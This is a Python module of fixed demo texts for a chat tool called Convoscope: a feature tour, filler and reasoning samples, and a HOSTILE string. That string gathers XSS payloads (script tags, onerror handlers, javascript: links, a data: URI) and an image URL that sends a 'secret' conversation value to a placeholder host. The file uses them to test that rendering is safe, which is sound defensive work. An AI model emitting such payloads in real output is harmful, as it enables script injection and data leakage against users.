"""What the demo provider says."""

TOUR = """\
# Welcome to Convoscope

This is the **demo**: a fixed text that streams like an answer. It is not a model, it needs no key, and nothing leaves \
your machine. What you see around it is the real chat.

## What you can do here

- **Stop** an answer at any time, with the button or `Esc`. What came is kept.
- **Retry** an answer, with another model if you like: the first one is kept.
- **Go on after a break**: an answer that breaks off is marked as such, and can be continued.
- **Come back tomorrow**: every conversation is stored on this machine, and only there.

## When a model does not answer

You choose an ordered route, and the next model steps in before the first word. The answer says who gave it.

| model | what it shows |
|:--|:--|
| `demo:fail-429` | a provider with too many requests, so that the next model answers |
| `demo:drop-midway` | an answer that breaks off |
| `demo:slow` | an answer long enough to stop it |
| `demo:reasoning` | a model that thinks before it speaks |

Try the route `demo:fail-429, demo:tour`, and look at the receipt under the answer.

## From Python

The chat and your code share one session:

```python
import convoscope_jupyter as cv

session = cv.Session("demo:echo")
turn = session.ask("What did I just say?")
print(turn.text)
```

## A real model

Set `OPENAI_API_KEY`, or call `cv.set_key("openai")`, and choose `openai:gpt-5-mini` below. A server of your own, such \
as [Ollama](https://ollama.com), needs no key:

```python
ollama = cv.OpenAICompatible(base_url="http://127.0.0.1:11434/v1")
cv.Chat("ollama:llama3.2", providers={"ollama": ollama})
```
"""

PARAGRAPH = """\
This is the demo, not a model. It writes at a steady pace so that you can watch an answer arrive, scroll while it \
does, stop it, and see what is kept. Nothing was asked of anyone, nothing was counted, and nothing cost anything. \
Every word of this paragraph was written beforehand; there are many of them, because an answer has to last a while \
before it can be interrupted in its middle. \
"""

REASONING = """\
The question may be a sum. I am the demo and do not really think, but a model that does would put its steps here: \
17 times 20 is 340, 17 times 3 is 51, and together that is 391.\
"""

SUM = "17 times 23 is **391**. Answer and steps are a fixed text: this is the demo, not a model."

HOSTILE = """\
This demo answer tries to break out of the page. All of it should arrive as harmless text.

<script>window.convoscopeBroken = true; alert("script")</script>
<img src="x" onerror="window.convoscopeBroken = true">
<svg onload="window.convoscopeBroken = true"><a href="javascript:alert(1)"><text>svg</text></a></svg>
<iframe src="https://example.invalid/frame"></iframe>
<button data-commandlinker-command="application:close-all">Click me</button>
<form action="https://example.invalid/form"><input name="key"></form>
<style>* { background: url(https://example.invalid/style.png) }</style>

![an image from elsewhere](https://example.invalid/pixel.png?conversation=secret)
![by reference][pixel] and [a script](javascript:alert(document.cookie)) and
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) and [an honest link](https://example.com "hover").

[pixel]: //example.invalid/reference.png

```html
<script>alert("inside a fence, this is text to be read")</script>
```

Inline `<img src=x onerror=alert(1)>`, a table with a trap:

| cell | cell |
|:--|:--|
| <img src=x onerror=alert(2)> | [link](vbscript:msgbox(1)) |

~~~
A fence that never ends: <script>alert("unclosed")</script>
"""
